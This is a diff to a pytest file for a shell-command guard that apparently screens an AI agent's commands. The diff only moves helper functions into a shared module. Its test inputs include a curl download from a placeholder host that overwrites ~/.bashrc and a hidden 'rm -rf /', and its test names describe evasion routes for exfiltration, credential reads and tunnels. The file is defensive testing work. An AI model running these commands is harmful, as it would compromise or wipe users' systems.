@@ -14,28 +14,10 @@ placeholders).
 
 from __future__ import annotations
 
-from pathlib import Path
-
 import pytest
 
-from clawkeep.guards.command_guard import CommandContext, judge
-
-HOME = Path("/home/agent")
-CTX = CommandContext(
-    egress=True, workspace=Path("/srv/ws"), home=HOME, state_dir=HOME / ".clawkeep"
-)
-ATTACKER = "203.0.113.7"
-
-
-def _allowed(command: str) -> None:
-    verdict = judge(command, CTX)
-    assert verdict.allowed, (command, verdict.findings)
-
-
-def _refused(command: str, effect: str) -> None:
-    verdict = judge(command, CTX)
-    assert not verdict.allowed, command
-    assert f"command_guard.{effect}" in {f.reason for f in verdict.findings}, verdict.findings
+from clawkeep.guards.command_guard import judge
+from tests.guards.command_guard.cg_support import ATTACKER, CTX, allowed, refused
 
 
 @pytest.mark.parametrize(
@@ -53,7 +35,7 @@ def _refused(command: str, effect: str) -> None:
     ],
 )
 def test_words_after_a_redirect_are_the_commands_arguments(command: str, effect: str) -> None:
-    _refused(command, effect)
+    refused(command, effect)
 
 
 @pytest.mark.parametrize(
@@ -67,7 +49,7 @@ def test_words_after_a_redirect_are_the_commands_arguments(command: str, effect:
     ],
 )
 def test_words_after_a_redirect_harmless_forms_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -84,7 +66,7 @@ def test_words_after_a_redirect_harmless_forms_pass(command: str) -> None:
     ],
 )
 def test_searcher_pattern_from_an_option_makes_every_operand_a_path(command: str) -> None:
-    _refused(command, "credential_read")
+    refused(command, "credential_read")
 
 
 @pytest.mark.parametrize(
@@ -98,7 +80,7 @@ def test_searcher_pattern_from_an_option_makes_every_operand_a_path(command: str
     ],
 )
 def test_searcher_over_the_workspace_passes(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -128,7 +110,7 @@ def test_searcher_over_the_workspace_passes(command: str) -> None:
 def test_loader_variables_and_assignments_reaching_a_program_run_as_root(
     command: str, effect: str
 ) -> None:
-    _refused(command, effect)
+    refused(command, effect)
 
 
 @pytest.mark.parametrize(
@@ -145,7 +127,7 @@ def test_loader_variables_and_assignments_reaching_a_program_run_as_root(
     ],
 )
 def test_assignments_for_own_programs_and_plain_sudo_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -160,7 +142,7 @@ def test_assignments_for_own_programs_and_plain_sudo_pass(command: str) -> None:
     ],
 )
 def test_system_container_given_the_hosts_root(command: str) -> None:
-    _refused(command, "privilege")
+    refused(command, "privilege")
 
 
 @pytest.mark.parametrize(
@@ -173,7 +155,7 @@ def test_system_container_given_the_hosts_root(command: str) -> None:
     ],
 )
 def test_system_containers_harmless_forms_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -186,7 +168,7 @@ def test_system_containers_harmless_forms_pass(command: str) -> None:
     ],
 )
 def test_ssh_relatives_open_tunnels(command: str) -> None:
-    _refused(command, "tunnel")
+    refused(command, "tunnel")
 
 
 @pytest.mark.parametrize(
@@ -206,7 +188,7 @@ def test_ssh_relatives_open_tunnels(command: str) -> None:
     ],
 )
 def test_file_servers_in_the_table(command: str, effect: str) -> None:
-    _refused(command, effect)
+    refused(command, effect)
 
 
 @pytest.mark.parametrize(
@@ -220,7 +202,7 @@ def test_file_servers_in_the_table(command: str, effect: str) -> None:
     ],
 )
 def test_file_servers_of_the_workspace_on_loopback_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -238,7 +220,7 @@ def test_file_servers_of_the_workspace_on_loopback_pass(command: str) -> None:
     ],
 )
 def test_cloud_copy_destination_before_option_values(command: str) -> None:
-    _refused(command, "exfiltration")
+    refused(command, "exfiltration")
 
 
 @pytest.mark.parametrize(
@@ -253,7 +235,7 @@ def test_cloud_copy_destination_before_option_values(command: str) -> None:
     ],
 )
 def test_cloud_downloads_and_local_copies_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -267,7 +249,7 @@ def test_cloud_downloads_and_local_copies_pass(command: str) -> None:
     ],
 )
 def test_fuse_mounts_outside_the_workspace_or_for_all(command: str) -> None:
-    _refused(command, "privilege")
+    refused(command, "privilege")
 
 
 @pytest.mark.parametrize(
@@ -280,7 +262,7 @@ def test_fuse_mounts_outside_the_workspace_or_for_all(command: str) -> None:
     ],
 )
 def test_fuse_mounts_into_the_workspace_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -307,7 +289,7 @@ def test_fuse_mounts_into_the_workspace_pass(command: str) -> None:
     ],
 )
 def test_data_read_at_run_time_reaching_a_url_through_a_variable(command: str) -> None:
-    _refused(command, "exfiltration")
+    refused(command, "exfiltration")
 
 
 @pytest.mark.parametrize(
@@ -324,7 +306,7 @@ def test_data_read_at_run_time_reaching_a_url_through_a_variable(command: str) -
     ],
 )
 def test_values_not_read_from_data_or_not_sent_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 # -- found while attacking the fixes above ----------------------------------------------
@@ -348,11 +330,11 @@ def test_values_not_read_from_data_or_not_sent_pass(command: str) -> None:
     ],
 )
 def test_http_client_short_option_clusters_and_option_files(command: str) -> None:
-    _refused(command, "exfiltration")
+    refused(command, "exfiltration")
 
 
 def test_http_client_clustered_output_option_is_judged_as_a_write() -> None:
-    _refused("curl -sSLo ~/.bashrc https://x.example/rc", "persistence")
+    refused("curl -sSLo ~/.bashrc https://x.example/rc", "persistence")
 
 
 @pytest.mark.parametrize(
@@ -367,7 +349,7 @@ def test_http_client_clustered_output_option_is_judged_as_a_write() -> None:
     ],
 )
 def test_http_client_downloads_with_clustered_options_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -379,7 +361,7 @@ def test_http_client_downloads_with_clustered_options_pass(command: str) -> None
     ],
 )
 def test_shell_reading_its_script_from_a_process_substitution(command: str, effect: str) -> None:
-    _refused(command, effect)
+    refused(command, effect)
 
 
 @pytest.mark.parametrize(
@@ -390,7 +372,7 @@ def test_shell_reading_its_script_from_a_process_substitution(command: str, effe
     ],
 )
 def test_filters_reading_a_download_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -406,7 +388,7 @@ def test_filters_reading_a_download_pass(command: str) -> None:
     ],
 )
 def test_package_manager_settings_that_run_a_program_later(command: str) -> None:
-    _refused(command, "persistence")
+    refused(command, "persistence")
 
 
 @pytest.mark.parametrize(
@@ -421,7 +403,7 @@ def test_package_manager_settings_that_run_a_program_later(command: str) -> None
     ],
 )
 def test_package_manager_plain_settings_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -441,7 +423,7 @@ def test_package_manager_plain_settings_pass(command: str) -> None:
     ],
 )
 def test_ssh_forwarding_in_clusters_and_config_spellings(command: str) -> None:
-    _refused(command, "tunnel")
+    refused(command, "tunnel")
 
 
 @pytest.mark.parametrize(
@@ -456,7 +438,7 @@ def test_ssh_forwarding_in_clusters_and_config_spellings(command: str) -> None:
     ],
 )
 def test_ssh_local_forwards_on_loopback_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -478,11 +460,11 @@ def test_ssh_local_forwards_on_loopback_pass(command: str) -> None:
     ],
 )
 def test_credential_paths_known_in_part_or_through_read(command: str) -> None:
-    _refused(command, "credential_read")
+    refused(command, "credential_read")
 
 
 def test_read_from_known_text_sets_the_words() -> None:
-    _refused('read a b <<< "rm -rf /"; $a $b', "destructive_delete")
+    refused('read a b <<< "rm -rf /"; $a $b', "destructive_delete")
 
 
 @pytest.mark.parametrize(
@@ -500,7 +482,7 @@ def test_read_from_known_text_sets_the_words() -> None:
     ],
 )
 def test_paths_known_in_part_outside_credential_folders_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -514,7 +496,7 @@ def test_paths_known_in_part_outside_credential_folders_pass(command: str) -> No
     ],
 )
 def test_git_settings_that_pull_in_commands(command: str, effect: str) -> None:
-    _refused(command, effect)
+    refused(command, effect)
 
 
 @pytest.mark.parametrize(
@@ -526,7 +508,7 @@ def test_git_settings_that_pull_in_commands(command: str, effect: str) -> None:
     ],
 )
 def test_git_plain_settings_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -545,7 +527,7 @@ def test_git_plain_settings_pass(command: str) -> None:
     ],
 )
 def test_variables_naming_a_command_a_tool_runs(command: str, effect: str) -> None:
-    _refused(command, effect)
+    refused(command, effect)
 
 
 @pytest.mark.parametrize(
@@ -560,7 +542,7 @@ def test_variables_naming_a_command_a_tool_runs(command: str, effect: str) -> No
     ],
 )
 def test_variables_naming_a_plain_program_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -588,7 +570,7 @@ def test_variables_naming_a_plain_program_pass(command: str) -> None:
     ],
 )
 def test_tools_that_run_text_in_scripts_options_and_input(command: str, effect: str) -> None:
-    _refused(command, effect)
+    refused(command, effect)
 
 
 @pytest.mark.parametrize(
@@ -612,7 +594,7 @@ def test_tools_that_run_text_in_scripts_options_and_input(command: str, effect: 
     ],
 )
 def test_those_tools_on_harmless_text_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -634,7 +616,7 @@ def test_those_tools_on_harmless_text_pass(command: str) -> None:
     ],
 )
 def test_uploads_through_repositories_indexes_and_cloud_parameters(command: str) -> None:
-    _refused(command, "exfiltration")
+    refused(command, "exfiltration")
 
 
 @pytest.mark.parametrize(
@@ -654,7 +636,7 @@ def test_uploads_through_repositories_indexes_and_cloud_parameters(command: str)
     ],
 )
 def test_repository_and_cloud_commands_that_send_no_local_file_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -687,7 +669,7 @@ def test_text_through_a_character_cipher_into_a_shell(command: str) -> None:
     ],
 )
 def test_tr_as_a_filter_passes(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -702,7 +684,7 @@ def test_tr_as_a_filter_passes(command: str) -> None:
     ],
 )
 def test_web_shells_on_a_reachable_address(command: str) -> None:
-    _refused(command, "tunnel")
+    refused(command, "tunnel")
 
 
 @pytest.mark.parametrize(
@@ -717,7 +699,7 @@ def test_web_shells_on_a_reachable_address(command: str) -> None:
     ],
 )
 def test_web_shells_on_loopback_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
 
 
 @pytest.mark.parametrize(
@@ -739,7 +721,7 @@ def test_web_shells_on_loopback_pass(command: str) -> None:
     ],
 )
 def test_containers_given_host_paths_devices_or_kernel_powers(command: str) -> None:
-    _refused(command, "privilege")
+    refused(command, "privilege")
 
 
 @pytest.mark.parametrize(
@@ -757,4 +739,4 @@ def test_containers_given_host_paths_devices_or_kernel_powers(command: str) -> N
     ],
 )
 def test_containers_with_workspace_mounts_pass(command: str) -> None:
-    _allowed(command)
+    allowed(command)
